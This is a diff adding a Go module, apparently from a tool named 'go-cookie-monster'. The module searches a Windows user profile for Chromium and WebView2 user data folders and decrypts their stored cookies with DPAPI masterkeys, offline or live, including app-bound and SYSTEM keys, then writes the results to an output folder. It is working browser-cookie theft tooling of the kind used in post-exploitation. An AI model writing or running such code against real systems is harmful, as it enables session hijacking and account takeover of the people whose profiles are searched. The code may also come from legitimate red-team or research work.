@@ -0,0 +1,46 @@
+package cookiemonster
+
+import (
+	"fmt"
+	"go-cookie-monster/pkg/browsers"
+	"go-cookie-monster/pkg/dpapi"
+	"log"
+)
+
+// ProcessDiscoverMode finds every Chromium-format user data folder below a user profile tree,
+// such as the <app>.exe.WebView2\EBWebView folders of WebView2 applications, and decrypts each
+// with live DPAPI or offline masterkeys, including its app-bound key when SYSTEM masterkeys
+// are given
+func ProcessDiscoverMode(root string, dpapiOpts DPAPIOptions, outputDir string) {
+	var err error
+	if root == "" {
+		root, err = getUserProfile()
+		if err != nil {
+			log.Fatalf("Error finding user profile directory: %v", err)
+		}
+	}
+
+	fmt.Printf("\n[*] Searching for user data folders in: \"%s\"\n", root)
+	dirs, err := browsers.DiscoverUserDataDirs(root)
+	if err != nil {
+		log.Printf("[-] Error searching %s: %v", root, err)
+	}
+	if len(dirs) == 0 {
+		log.Fatalf("no user data folders (with Local State and Network\\Cookies) found in %s", root)
+	}
+	fmt.Printf("[+] Found %d user data folders\n", len(dirs))
+
+	masterKeys := loadOfflineMasterKeys(dpapiOpts)
+	var systemKeys *dpapi.MasterKeyCache
+	if masterKeys != nil {
+		systemKeys = loadSystemMasterKeys(dpapiOpts)
+	}
+	provider := newKeyProvider(masterKeys, systemKeys)
+
+	var results []ProfileResult
+	for _, dir := range dirs {
+		results = append(results, decryptUserDataDir(dir.Path, nil, provider)...)
+	}
+
+	writeProfileResults(results, root, outputDir)
+}